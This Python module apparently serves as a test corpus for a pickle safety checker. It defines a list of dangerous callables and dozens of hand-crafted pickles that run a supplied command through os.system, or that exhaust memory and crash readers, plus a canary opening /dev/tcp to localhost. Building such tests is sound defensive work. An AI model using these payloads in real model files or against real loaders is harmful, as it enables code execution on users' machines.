"""Pickles made to run something, or to break their reader, as public lists of them have.

Each is written by hand: Python's own pickler would not write most of them.
"""

import pickle
import struct
from collections.abc import Callable
from pathlib import Path

Make = Callable[[str], bytes]  # of a command that leaves traces

CALLED = (
    "_aix_support._read_cmd_output _pickle.loads _posixsubprocess.fork_exec asyncio.run "
    "bdb.Bdb.run builtins.__import__ builtins.compile builtins.eval builtins.exec "
    "builtins.getattr builtins.map builtins.open cProfile.run "
    "cloudpickle.cloudpickle._make_function cloudpickle.cloudpickle.subimport "
    "cloudpickle.loads code.interact commands.getoutput copyreg.add_extension ctypes.CDLL "
    "functools.reduce importlib.import_module joblib.load joblib.numpy_pickle.load "
    "logging.config.dictConfig multiprocessing.util.spawnv_passfds nt.system numpy.fromfile "
    "numpy.load numpy.save numpy.testing._private.utils.runstring operator.attrgetter "
    "operator.methodcaller os._exit os.execv os.popen os.remove os.system pdb.run "
    "pickle.loads pip.main posix.system profile.run pty.spawn pydoc.pipepager pydoc.locate "
    "runpy.run_path scipy.io.loadmat shutil.rmtree signal.raise_signal "
    "sklearn.datasets.load_files sklearn.utils.all_estimators socket.create_connection "
    "sqlite3.connect subprocess.Popen subprocess.call subprocess.check_output "
    "subprocess.getoutput subprocess.run sys.exit threading.Thread timeit.timeit torch.load "
    "types.CodeType types.FunctionType urllib.request.urlopen webbrowser.open "
    "zipimport.zipimporter"
)


def text(value: str) -> bytes:
    encoded = value.encode()
    return b"X" + struct.pack("<I", len(encoded)) + encoded


def old_call(name: str) -> Make:
    """`c` and `R`, as protocol 0 calls."""
    module, _, function = name.rpartition(".")
    start = f"c{module}\n{function}\n".encode()
    return lambda command: start + b"(" + text(command) + b"tR."


def call(module: str, name: str, command: str) -> bytes:
    """Stacked names, as protocol 4 calls."""
    return b"\x80\x04" + text(module) + text(name) + b"\x93" + text(command) + b"\x85R."


CLASS = b"\x80\x04csklearn.linear_model._base\nLinearRegression\n"


def instance(state: bytes) -> bytes:
    return CLASS + b")\x81" + state + b"b."


def within(command: str) -> bytes:
    """A call, without the end of the pickle."""
    return old_call("os.system")(command)[:-1]


def array(shape: bytes, kind: bytes, raw: bytes) -> bytes:
    made = b"cnumpy\ndtype\n" + text(kind.decode()) + b"\x89\x88\x87R"
    made += (
        b"(K\x03"
        + text("|" if kind == b"b1" else "<")
        + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
    )
    start = b"cnumpy._core.multiarray\n_reconstruct\ncnumpy\nndarray\nK\x00\x85C\x01b\x87R"
    return b"\x80\x04" + start + b"(K\x01" + shape + made + b"\x89" + raw + b"tb."


HUGE = struct.pack("<Q", 2**62)
TRICKS: dict[str, Make] = {
    "dotted name in numpy": lambda c: call("numpy", "f2py.os.system", c),
    "dotted name in scikit-learn": lambda c: call("sklearn.base", "os.system", c),
    "dotted name of a reviewed class": lambda c: call(
        "sklearn.pipeline", "Pipeline.__init__.__globals__", c
    ),
    "module within a reviewed module": lambda c: call("sklearn.pipeline", "sys", c),
    "name with a space": lambda c: b"cos system\nx\n(" + text(c) + b"tR.",
    "name that is no text": lambda c: b"\x80\x04K\x01K\x02\x93.",
    "instance of old": lambda c: b"(" + text(c) + b"ios\nsystem\n.",
    "object of old": lambda c: b"(cos\nsystem\n" + text(c) + b"o.",
    "extension code 1": lambda c: b"\x80\x02\x82\x01.",
    "extension code 4": lambda c: b"\x80\x02\x84\x01\x00\x00\x00.",
    "persistent id": lambda c: b"Pos.system\n.",
    "persistent id on the stack": lambda c: text(c) + b"Q.",
    "buffer of another": lambda c: b"\x80\x05\x97.",
    "read-only buffer": lambda c: b"\x80\x05" + text(c) + b"\x98.",
    "new with keywords": lambda c: b"\x80\x04cos\nsystem\n)" + b"}\x92.",
    "state on a class": lambda c: CLASS + b"}" + text("predict") + within(c) + b"sb.",
    "harmless state on a class": lambda c: CLASS + b"}" + text("predict") + b"Nsb.",
    "state on a function": lambda c: b"\x80\x04cnumpy\nexp\n}b.",
    "state on a list": lambda c: b"\x80\x04]}b.",
    "state twice": lambda c: instance(b"}b}"),
    "state with __setstate__": lambda c: instance(b"}" + text("__setstate__") + b"cnumpy\nexp\ns"),
    "state with __class__": lambda c: instance(b"}" + text("__class__") + b"cnumpy\nndarray\ns"),
    "state with __reduce_ex__": lambda c: instance(
        b"}" + text("__reduce_ex__") + b"cnumpy\nexp\ns"
    ),
    "state before a method": lambda c: instance(b"}" + text("predict") + b"cnumpy\nexp\ns"),
    "state that is no dict": lambda c: instance(b"]"),
    "state with a number for a name": lambda c: instance(b"}K\x01K\x01s"),
    "state with a call": lambda c: instance(b"}" + text("coef_") + within(c) + b"s"),
    "class for a value": lambda c: instance(
        b"}" + text("coef_") + b"csklearn.pipeline\nPipeline\ns"
    ),
    "constructor for a value": lambda c: instance(
        b"}" + text("coef_") + b"ccopyreg\n_reconstructor\ns"
    ),
    "class called": lambda c: b"csklearn.pipeline\nPipeline\n(" + text(c) + b"tR.",
    "value called": lambda c: b"cnumpy\nexp\n(K\x01tR.",
    "text called": lambda c: text("os.system") + b"(" + text(c) + b"tR.",
    "list for arguments": lambda c: b"c_codecs\nencode\n](" + text(c) + b"eR.",
    "reconstructor of something": lambda c: (
        b"ccopyreg\n_reconstructor\n(cnumpy\nndarray\ncbuiltins\nobject\nNtR."
    ),
    "reconstructor upon something": lambda c: (
        b"ccopyreg\n_reconstructor\n(csklearn.pipeline\nPipeline\ncbuiltins\nlist\n]tR."
    ),
    "partial of something": lambda c: (
        b"cfunctools\npartial\n(cnumpy\nexp\ntR(cnumpy\nexp\n(t}Ntb."
    ),
    "encode with another codec": lambda c: b"c_codecs\nencode\n(" + text(c) + text("hex") + b"tR.",
    "defaultdict that calls": lambda c: b"ccollections\ndefaultdict\n(cnumpy\nexp\ntR.",
    "key that is no plain value": lambda c: b"\x80\x04}((((ttttNs.",
    "nested pickle": lambda c: b"cpickle\nloads\n(C" + bytes([20]) + within(c)[:20] + b"tR.",
    "memo without an entry": lambda c: b"\x80\x04h\x07.",
    "memo of nothing": lambda c: b"\x80\x04\x94.",
    "memo of a class, for another's state": lambda c: (
        CLASS + b"\x940h\x00}" + text("coef_") + b"Nsb."
    ),
    "memo of what is not built": lambda c: (
        b"\x80\x04cnumpy\ndtype\n" + text("f8") + b"\x89\x88\x87R."
    ),
    "list within itself, as a key": lambda c: b"\x80\x04]\x94h\x00a}h\x00Ns.",
    "two things": lambda c: b"\x80\x04NN.",
    "nothing": lambda c: b"\x80\x04.",
    "no pickle": lambda c: b"#!/bin/sh\n" + c.encode(),
    "empty": lambda c: b"",
    "no end": lambda c: pickle.dumps([1, 2, 3])[:-1],
    "unknown instruction": lambda c: b"\x80\x04\xff.",
    "2^62 bytes": lambda c: b"\x80\x04\x8e" + HUGE + b"x.",
    "2^62 of text": lambda c: b"\x80\x04\x8d" + HUGE + b"x.",
    "2^62 of a bytearray": lambda c: b"\x80\x05\x96" + HUGE + b"x.",
    "2^31 of a number": lambda c: b"\x80\x04\x8b\xff\xff\xff\x7f\x01.",
    "negative length": lambda c: b"\x80\x04\x8b\xff\xff\xff\xff.",
    "shape of 2^62": lambda c: array(b"\x8a\x08" + HUGE + b"\x85", b"f8", b"C\x08" + bytes(8)),
    "shape below zero": lambda c: array(b"J\xff\xff\xff\xff\x85", b"f8", b"C\x08" + bytes(8)),
    "shape of another length": lambda c: array(b"K\x02\x85", b"f8", b"C\x08" + bytes(8)),
    "objects of bytes": lambda c: array(b"K\x01\x85", b"O8", b"C\x08" + b"A" * 8),
    "bool that is neither": lambda c: array(b"K\x01\x85", b"b1", b"C\x01\x07"),
    "dtype of code": lambda c: array(b"K\x01\x85", b"(1,)O", b"C\x08" + bytes(8)),
    "5,000 lists in lists": lambda c: b"\x80\x04" + b"]" * 5000 + b"a" * 4999 + b".",
    "same lists in lists": lambda c: (
        b"\x80\x04]\x940"
        + b"".join(b"](h%bh%be\x940" % (bytes([at]), bytes([at])) for at in range(60))
        + b"h\x3c."
    ),
}


def canary(folder: Path, port: int) -> str:
    """A command that leaves a file and a connection behind."""
    return f"touch {folder / 'sang'}; exec 3<>/dev/tcp/127.0.0.1/{port}"
